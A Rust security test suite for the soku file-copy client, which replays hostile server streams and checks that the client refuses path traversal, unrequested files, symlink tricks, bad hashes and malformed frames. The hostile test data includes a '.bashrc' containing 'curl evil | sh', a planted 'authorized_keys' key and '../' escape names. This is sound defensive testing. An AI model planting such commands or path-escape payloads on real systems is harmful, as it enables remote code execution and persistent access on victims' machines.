//! The security suite: a hostile server against the real client binary.
//!
//! `-e/--rsh` replaces ssh with any command, and `--ssh-channel` makes the whole
//! protocol (hello, control frames and chunks) travel on that command's stdin/stdout.
//! The hostile "server" is therefore a byte stream written by the test with soku-proto's
//! own types and encoder, so it is exactly what a real peer could send, and replayed by
//! `sh -c 'cat FILE; ...'`. A download needs nothing from the client to proceed, so a
//! replay is enough; the client's own writes are drained and ignored.
//!
//! Every attack asserts: a non-zero exit with a short `soku: ...` error, no panic,
//! nothing written outside the target directory (a canary dir beside it stays as it
//! was), and no file under a final name in the target holding bad data. Each run has a
//! hard time limit (coreutils `timeout`), so a hang fails the test instead of the suite.
//!
//! A benign replay ([`benign_replay_delivers_the_file`]) proves the harness speaks the
//! protocol, so the refusals below are refusals, not a broken harness. Rogue QUIC
//! certificates are covered by soku-transport's unit tests (pinning both ways).

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use soku_proto::chunk::{chunk_hash, root_hash, ChunkHeader};
use soku_proto::frame;
use soku_proto::hello::ServerHello;
use soku_proto::manifest::{Entry, Meta};
use soku_proto::message::Message;
use soku_proto::path::WirePath;
use soku_proto::MAGIC;
use soku_testkit::describe;

use crate::common::{self, assert_no_panic, listing};

/// Seconds an attacked client may take before the test calls it a hang.
const LIMIT_SECS: &str = "30";

/// The bytes a hostile server writes on its stdout.
#[derive(Default)]
struct Script {
    bytes: Vec<u8>,
}

impl Script {
    /// Starts like a real server: magic and a Ready hello without QUIC or TCP.
    fn new() -> Script {
        let mut s = Script { bytes: MAGIC.to_vec() };
        s.frame(&ServerHello::Ready {
            version: *soku_proto::PROTOCOL_VERSIONS.end(),
            udp_port: 0,
            server_addr: None,
            fingerprint: [0; 32],
            soku_version: "hostile".into(),
            warnings: vec![],
            min_version: *soku_proto::PROTOCOL_VERSIONS.start(),
            tcp_port: 0,
            open_files: None,
        });
        s
    }

    fn frame<T: serde::Serialize>(&mut self, msg: &T) -> &mut Script {
        frame::encode(msg, &mut self.bytes).expect("encodes");
        self
    }

    fn msg(&mut self, msg: Message) -> &mut Script {
        self.frame(&msg)
    }

    fn raw(&mut self, bytes: &[u8]) -> &mut Script {
        self.bytes.extend_from_slice(bytes);
        self
    }

    fn dir(&mut self, path: &[&str]) -> &mut Script {
        self.msg(Message::Entry(Entry::Dir { path: wire(path), meta: meta() }))
    }

    fn file(&mut self, id: u32, path: &[&str], size: u64) -> &mut Script {
        self.msg(Message::Entry(Entry::File { id, path: wire(path), size, meta: meta() }))
    }

    /// One uncompressed chunk claiming `hash`, followed by `bytes`.
    fn chunk_with_hash(
        &mut self,
        file: u32,
        index: u32,
        bytes: &[u8],
        hash: [u8; 32],
    ) -> &mut Self {
        let wire_len = u32::try_from(bytes.len()).expect("small chunk");
        self.msg(Message::Chunk(ChunkHeader { file, index, wire_len, compressed: false, hash }))
            .raw(bytes)
    }

    /// A whole small file (one chunk) with honest hashes.
    fn honest_file(&mut self, id: u32, path: &[&str], content: &[u8]) -> &mut Script {
        let hash = chunk_hash(content);
        self.file(id, path, content.len() as u64).chunk_with_hash(id, 0, content, hash).msg(
            Message::FileSummary {
                file: id,
                root: root_hash(content.len() as u64, [&hash]),
                sent: 1,
            },
        )
    }

    fn end(&mut self, files: u32, bytes: u64) -> &mut Script {
        self.msg(Message::EndOfManifest { files, bytes })
    }
}

fn wire(parts: &[&str]) -> WirePath {
    WirePath(parts.iter().map(|s| soku_proto::name::Name::from(*s)).collect())
}

fn meta() -> Meta {
    Meta { mode: 0o644, mtime: 1_000_000_000, ..Meta::default() }
}

/// A temp dir with `dst/` (the target) and `outside/` (a canary with one file).
struct Scene {
    dir: tempfile::TempDir,
}

const CANARY: &[u8] = b"canary: must never change";

impl Scene {
    fn new() -> Scene {
        let dir = tempfile::Builder::new().prefix("soku-sec-").tempdir().expect("temp dir");
        std::fs::create_dir(dir.path().join("dst")).expect("mkdir");
        common::write(&dir.path().join("outside/canary.txt"), CANARY);
        Scene { dir }
    }

    fn dst(&self) -> PathBuf {
        self.dir.path().join("dst")
    }

    fn outside(&self) -> PathBuf {
        self.dir.path().join("outside")
    }

    /// Runs `soku -e <replay> --ssh-channel ARGS...` against `script`, bounded in time.
    fn run(&self, script: &Script, args: &[&str]) -> Output {
        let file = self.dir.path().join("server.bin");
        std::fs::write(&file, &script.bytes).expect("write script");
        // Write the hostile stream, close stdout (EOF for the client), then drain stdin
        // so the client's writes never fail on a closed pipe.
        let rsh = format!("sh -c 'cat {}; exec 1>&-; exec cat >/dev/null' hostile", file.display());
        let mut cmd = Command::new("timeout");
        cmd.args(["-k", "5", LIMIT_SECS])
            .arg(common::soku_bin())
            // A replay ends the same way every time: no reconnecting to it.
            .args(["-e", &rsh, "--ssh-channel", "--retry-for", "0"])
            .args(args)
            .current_dir(self.dir.path());
        let out = soku_testkit::cmd::output(&mut cmd);
        assert_ne!(
            out.status.code(),
            Some(124),
            "soku hung on a hostile peer\n{}",
            describe(&cmd, &out)
        );
        assert_no_panic(&cmd, &out);
        std::fs::remove_file(&file).expect("remove script");
        out
    }

    /// Runs an attack and checks the common guarantees; returns stderr.
    fn attack(&self, script: &Script, args: &[&str], needles: &[&str]) -> String {
        let out = self.run(script, args);
        let shown = format!("status {}\n{}", out.status, String::from_utf8_lossy(&out.stderr));
        assert!(!out.status.success(), "the attack was accepted\n{shown}");
        assert_ne!(out.status.code(), Some(2), "not a usage error\n{shown}");
        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
        let last = stderr.lines().last().unwrap_or_default();
        assert!(last.starts_with("soku: "), "last line is soku's error\n{shown}");
        assert!(stderr.lines().count() <= 3, "a short error, not a dump\n{shown}");
        for needle in needles {
            assert!(stderr.contains(needle), "stderr lacks {needle:?}\n{shown}");
        }
        self.assert_outside_untouched();
        assert!(
            listing(&self.dst()).iter().all(|p| !p.ends_with(".soku-part")),
            "temporary files left: {:?}",
            listing(&self.dst())
        );
        stderr
    }

    /// The canary dir holds exactly the canary, unchanged; the scene holds only
    /// `dst/` and `outside/` (plus what the test made there).
    fn assert_outside_untouched(&self) {
        assert_eq!(listing(&self.outside()), ["canary.txt"], "something landed outside");
        assert_eq!(std::fs::read(self.outside().join("canary.txt")).expect("canary"), CANARY);
        for entry in std::fs::read_dir(self.dir.path()).expect("read_dir") {
            let name = entry.expect("entry").file_name().to_string_lossy().into_owned();
            assert!(
                ["dst", "outside"].contains(&name.as_str()),
                "{name:?} appeared beside the target"
            );
        }
    }
}

fn target(dst: &Path) -> String {
    format!("{}/", dst.display())
}

#[test]
fn benign_replay_delivers_the_file() {
    let scene = Scene::new();
    let mut s = Script::new();
    s.honest_file(0, &["file.txt"], b"hello from a well-behaved server\n").end(1, 33);
    let out = scene.run(&s, &["hostile.invalid:file.txt", &target(&scene.dst())]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(listing(&scene.dst()), ["file.txt"]);
    assert_eq!(
        std::fs::read(scene.dst().join("file.txt")).expect("read"),
        b"hello from a well-behaved server\n"
    );
    scene.assert_outside_untouched();
}

#[test]
fn dot_dot_in_a_name_is_refused() {
    for (requested, name, recursive) in [
        // The user asked for file.txt: the name filter and the path check both refuse.
        ("hostile.invalid:file.txt", &["../escape.txt"][..], false),
        ("hostile.invalid:file.txt", &["..", "escape.txt"][..], false),
        // The user asked for a directory by `.`: any top name is allowed, `..` is not.
        ("hostile.invalid:.", &["../outside/escape.txt"][..], true),
        ("hostile.invalid:.", &[".."][..], true),
    ] {
        let scene = Scene::new();
        let mut s = Script::new();
        s.honest_file(0, name, b"escaped").end(1, 7);
        let dst = target(&scene.dst());
        // Options before paths: clap reads `SOURCE... TARGET` as one group.
        let mut args = if recursive { vec!["-r"] } else { vec![] };
        args.extend([requested, dst.as_str()]);
        let stderr = scene.attack(&s, &args, &[]);
        assert!(
            stderr.contains("unsafe path") || stderr.contains("does not match"),
            "{name:?}: {stderr}"
        );
        assert_eq!(listing(&scene.dst()), Vec::<String>::new(), "{name:?}");
    }
}

#[test]
fn dot_dot_as_a_directory_entry_is_refused() {
    let scene = Scene::new();
    let mut s = Script::new();
    s.dir(&["d"]).dir(&["d", ".."]).honest_file(0, &["d", "..", "..", "x"], b"x").end(1, 1);
    scene.attack(&s, &["-r", "hostile.invalid:d", &target(&scene.dst())], &["unsafe path"]);
    assert!(listing(&scene.dst()).iter().all(|p| p == "d/"), "{:?}", listing(&scene.dst()));
}

#[test]
fn absolute_path_or_slash_in_a_name_is_refused() {
    let scene = Scene::new();
    let abs = scene.outside().join("abs.txt").display().to_string();
    for name in [abs.as_str(), "file.txt/../../outside/x", "sub/file.txt", "file.txt\\..\\x"] {
        let mut s = Script::new();
        s.honest_file(0, &[name], b"evil").end(1, 4);
        let stderr = scene.attack(&s, &["-r", "hostile.invalid:.", &target(&scene.dst())], &[]);
        assert!(stderr.contains("unsafe path"), "{name:?}: {stderr}");
        assert_eq!(listing(&scene.dst()), Vec::<String>::new(), "{name:?}");
    }
}

#[test]
fn name_not_requested_is_refused_cve_2019_6111() {
    let scene = Scene::new();
    let mut s = Script::new();
    s.honest_file(0, &[".bashrc"], b"curl evil | sh\n").end(1, 15);
    scene.attack(
        &s,
        &["hostile.invalid:file.txt", &target(&scene.dst())],
        &[".bashrc", "does not match any requested source"],
    );
    assert_eq!(listing(&scene.dst()), Vec::<String>::new());
}

#[test]
fn extra_name_after_the_requested_one_is_refused() {
    // The first file is what the user asked for; the second is an extra the server
    // slips in (scp's CVE-2019-6111 exploit sends both).
    let scene = Scene::new();
    let mut s = Script::new();
    s.honest_file(0, &["file.txt"], b"ok\n").honest_file(
        1,
        &["authorized_keys"],
        b"ssh-ed25519 evil\n",
    );
    s.end(2, 20);
    scene.attack(
        &s,
        &["hostile.invalid:file.txt", &target(&scene.dst())],
        &["authorized_keys", "does not match"],
    );
    assert!(!scene.dst().join("authorized_keys").exists());
}

#[test]
fn symlinked_directory_in_the_target_is_not_followed() {
    let scene = Scene::new();
    std::os::unix::fs::symlink(scene.outside(), scene.dst().join("sub")).expect("symlink");
    let mut s = Script::new();
    s.dir(&["sub"]).honest_file(0, &["sub", "x"], b"planted through a symlink").end(1, 25);
    scene.attack(&s, &["-r", "hostile.invalid:sub", &target(&scene.dst())], &["symbolic link"]);
    // The symlink itself is the user's and stays.
    assert!(std::fs::symlink_metadata(scene.dst().join("sub")).expect("link").is_symlink());
}

#[test]
fn symlink_at_the_final_name_is_replaced_not_followed() {
    // Not an attack that fails: the verified file replaces the link (rename), and the
    // file the link pointed to is untouched.
    let scene = Scene::new();
    let victim = scene.outside().join("canary.txt");
    std::os::unix::fs::symlink(&victim, scene.dst().join("file.txt")).expect("symlink");
    let mut s = Script::new();
    s.honest_file(0, &["file.txt"], b"new content\n").end(1, 12);
    let out = scene.run(&s, &["hostile.invalid:file.txt", &target(&scene.dst())]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let md = std::fs::symlink_metadata(scene.dst().join("file.txt")).expect("exists");
    assert!(md.is_file(), "the link was replaced by a regular file");
    assert_eq!(std::fs::read(scene.dst().join("file.txt")).expect("read"), b"new content\n");
    scene.assert_outside_untouched();
}

#[test]
fn chunk_not_matching_its_hash_never_reaches_the_final_name() {
    let scene = Scene::new();
    let good = b"the real content";
    let mut s = Script::new();
    s.file(0, &["file.txt"], good.len() as u64)
        .chunk_with_hash(0, 0, b"EVIL real content", chunk_hash(good))
        .msg(Message::FileSummary {
            file: 0,
            root: root_hash(good.len() as u64, [&chunk_hash(good)]),
            sent: 1,
        })
        .end(1, good.len() as u64);
    // wire_len differs from the plain length: refused before the bytes are read.
    scene.attack(&s, &["hostile.invalid:file.txt", &target(&scene.dst())], &["wire length"]);
    assert_eq!(listing(&scene.dst()), Vec::<String>::new());

    let evil = b"EVIL real conten"; // same length as `good`
    let mut s = Script::new();
    s.file(0, &["file.txt"], good.len() as u64)
        .chunk_with_hash(0, 0, evil, chunk_hash(good))
        .msg(Message::FileSummary {
            file: 0,
            root: root_hash(good.len() as u64, [&chunk_hash(good)]),
            sent: 1,
        })
        .end(1, good.len() as u64);
    scene.attack(
        &s,
        &["hostile.invalid:file.txt", &target(&scene.dst())],
        &["failed verification", "1 of 1 file failed"],
    );
    assert_eq!(listing(&scene.dst()), Vec::<String>::new());
}

#[test]
fn wrong_root_hash_never_reaches_the_final_name() {
    let scene = Scene::new();
    let content = b"chunks are fine, the summary lies";
    let hash = chunk_hash(content);
    let mut s = Script::new();
    s.file(0, &["file.txt"], content.len() as u64)
        .chunk_with_hash(0, 0, content, hash)
        .msg(Message::FileSummary { file: 0, root: [7; 32], sent: 1 })
        .end(1, content.len() as u64);
    scene.attack(&s, &["hostile.invalid:file.txt", &target(&scene.dst())], &["root hash differs"]);
    assert_eq!(listing(&scene.dst()), Vec::<String>::new());
}

#[test]
fn an_existing_file_survives_a_failed_download() {
    // A final name never holds bad data: the old file stays as it was.
    let scene = Scene::new();
    common::write(&scene.dst().join("file.txt"), b"previous version");
    let good = b"the real content";
    let mut s = Script::new();
    s.file(0, &["file.txt"], good.len() as u64)
        .chunk_with_hash(0, 0, b"EVIL real conten", chunk_hash(good))
        .msg(Message::FileSummary {
            file: 0,
            root: root_hash(good.len() as u64, [&chunk_hash(good)]),
            sent: 1,
        })
        .end(1, good.len() as u64);
    scene.attack(
        &s,
        &["hostile.invalid:file.txt", &target(&scene.dst())],
        &["failed verification"],
    );
    assert_eq!(std::fs::read(scene.dst().join("file.txt")).expect("read"), b"previous version");
}

#[test]
fn truncated_frame_is_an_error() {
    let scene = Scene::new();
    let mut entry = Vec::new();
    frame::encode(
        &Message::Entry(Entry::File { id: 0, path: wire(&["file.txt"]), size: 5, meta: meta() }),
        &mut entry,
    )
    .expect("encodes");
    let mut s = Script::new();
    s.raw(&entry[..entry.len() - 3]);
    scene.attack(
        &s,
        &["hostile.invalid:file.txt", &target(&scene.dst())],
        &["closed in the middle of a message"],
    );
    // Truncated inside a length prefix.
    let mut s = Script::new();
    s.raw(&[0, 0]);
    scene.attack(
        &s,
        &["hostile.invalid:file.txt", &target(&scene.dst())],
        &["closed in the middle of a message"],
    );
    assert_eq!(listing(&scene.dst()), Vec::<String>::new());
}

#[test]
fn truncated_chunk_leaves_no_file() {
    // The file is announced and its temp file created; the stream ends inside the chunk.
    let scene = Scene::new();
    let content = data_1k();
    let mut s = Script::new();
    s.file(0, &["file.txt"], content.len() as u64);
    s.msg(Message::Chunk(ChunkHeader {
        file: 0,
        index: 0,
        wire_len: content.len() as u32,
        compressed: false,
        hash: chunk_hash(&content),
    }))
    .raw(&content[..100]);
    scene.attack(
        &s,
        &["hostile.invalid:file.txt", &target(&scene.dst())],
        &["closed in the middle of a message"],
    );
    assert_eq!(listing(&scene.dst()), Vec::<String>::new());
}

#[test]
fn stream_ending_before_the_manifest_ends_leaves_no_file() {
    // A huge announced size (sparse temp file) and then nothing. Without resume
    // nothing is left; with it, only the hidden partial file, for a later run.
    let scene = Scene::new();
    let mut s = Script::new();
    s.file(0, &["file.txt"], 1 << 40);
    let args = ["--no-resume", "hostile.invalid:file.txt", &target(&scene.dst())];
    scene.attack(&s, &args, &["closed"]);
    assert_eq!(listing(&scene.dst()), Vec::<String>::new());
    let out = scene.run(&s, &["hostile.invalid:file.txt", &target(&scene.dst())]);
    assert!(!out.status.success());
    assert_eq!(listing(&scene.dst()), [".file.txt.soku-part"]);
}

#[test]
fn oversized_frame_length_is_refused_without_allocating() {
    let scene = Scene::new();
    let mut s = Script::new();
    s.raw(&0xFFFF_FFF0u32.to_be_bytes());
    scene.attack(&s, &["hostile.invalid:file.txt", &target(&scene.dst())], &["exceeds the limit"]);
    // The same in place of the server hello.
    let mut s = Script::default();
    s.raw(MAGIC).raw(&0xFFFF_FFF0u32.to_be_bytes());
    let out = scene.run(&s, &["hostile.invalid:file.txt", &target(&scene.dst())]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(255), "{stderr}");
    assert!(stderr.contains("exceeds the limit"), "{stderr}");
    scene.assert_outside_untouched();
}

#[test]
fn garbage_payload_is_refused() {
    let scene = Scene::new();
    for garbage in [&[0xFFu8; 9][..], &[200, 1, 2, 3], &[2, 1, 0, 0xFF, 0xFF]] {
        let mut s = Script::new();
        s.raw(&(garbage.len() as u32).to_be_bytes()).raw(garbage);
        scene.attack(
            &s,
            &["hostile.invalid:file.txt", &target(&scene.dst())],
            &["malformed message"],
        );
    }
    // Garbage instead of a hello: the magic never comes.
    let mut s = Script::default();
    s.raw(b"Welcome!\n").raw(&[0xAB; 4096]);
    let out = scene.run(&s, &["hostile.invalid:file.txt", &target(&scene.dst())]);
    assert_eq!(out.status.code(), Some(255), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(listing(&scene.dst()), Vec::<String>::new());
}

#[test]
fn protocol_violations_are_refused() {
    let scene = Scene::new();
    let content = data_1k();
    let hash = chunk_hash(&content);
    let cases: Vec<(&str, Script)> = vec![
        ("past the end", {
            let mut s = Script::new();
            s.file(0, &["file.txt"], content.len() as u64).chunk_with_hash(0, 5, &content, hash);
            s
        }),
        ("sent twice", {
            let mut s = Script::new();
            s.file(0, &["file.txt"], content.len() as u64)
                .chunk_with_hash(0, 0, &content, hash)
                .chunk_with_hash(0, 0, &content, hash);
            s
        }),
        ("expected 0", {
            let mut s = Script::new();
            s.file(7, &["file.txt"], 1);
            s
        }),
        ("parent not announced", {
            let mut s = Script::new();
            s.file(0, &["file.txt", "deep"], 1);
            s
        }),
        ("protocol violation", {
            let mut s = Script::new();
            s.msg(Message::Finished { files: 1, bytes: 1, failures: 0 });
            s
        }),
        ("announced", {
            let mut s = Script::new();
            s.honest_file(0, &["file.txt"], &content).end(3, 1);
            s
        }),
    ];
    for (needle, script) in cases {
        scene.attack(
            &script,
            &["-r", "hostile.invalid:file.txt", &target(&scene.dst())],
            &[needle],
        );
        assert!(
            listing(&scene.dst()).iter().all(|p| p != "file.txt" || needle == "announced"),
            "{needle}: {:?}",
            listing(&scene.dst())
        );
    }
}

#[test]
fn chunk_for_a_file_not_yet_announced_does_not_hang() {
    // On the ssh channel control frames and chunks share one ordered stream: a chunk
    // whose file entry has not come yet can never be followed by that entry in time.
    let scene = Scene::new();
    let content = data_1k();
    let hash = chunk_hash(&content);
    let mut s = Script::new();
    s.chunk_with_hash(0, 0, &content, hash)
        .file(0, &["file.txt"], content.len() as u64)
        .msg(Message::FileSummary {
            file: 0,
            root: root_hash(content.len() as u64, [&hash]),
            sent: 1,
        })
        .end(1, content.len() as u64);
    let out = scene.run(&s, &["hostile.invalid:file.txt", &target(&scene.dst())]);
    // Either refusing the stray chunk or ignoring it is fine; hanging is not (run()
    // fails on the time limit). A final file, if any, must hold the honest bytes.
    if let Ok(got) = std::fs::read(scene.dst().join("file.txt")) {
        assert_eq!(got, content);
    }
    let _ = out;
    scene.assert_outside_untouched();
}

fn data_1k() -> Vec<u8> {
    common::data(1024, 99)
}

/// A server from a newer soku that no longer speaks this build's protocol: the copy
/// stops before anything moves, with one message naming both versions and which side to
/// upgrade (here: this host), and the connection's exit code.
#[test]
fn a_server_speaking_only_newer_protocols_is_refused_with_both_versions() {
    let scene = Scene::new();
    let newest = *soku_proto::PROTOCOL_VERSIONS.end();
    let mut s = Script { bytes: MAGIC.to_vec() };
    s.frame(&ServerHello::Ready {
        version: newest + 5,
        udp_port: 0,
        server_addr: None,
        fingerprint: [0; 32],
        soku_version: "99.0.0".into(),
        warnings: vec![],
        min_version: newest + 1,
        tcp_port: 0,
        open_files: None,
    });
    let out = scene.run(&s, &["hostile.invalid:file.txt", &target(&scene.dst())]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(255), "{stderr}");
    let oldest = *soku_proto::PROTOCOL_VERSIONS.start();
    let ours = if oldest == newest { newest.to_string() } else { format!("{oldest}-{newest}") };
    let expected = format!(
        "speaks protocol version {}-{}, this soku speaks {ours}: upgrade soku on this host",
        newest + 1,
        newest + 5
    );
    assert!(stderr.contains(&expected), "{stderr}");
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert_eq!(listing(&scene.dst()), Vec::<String>::new());
}
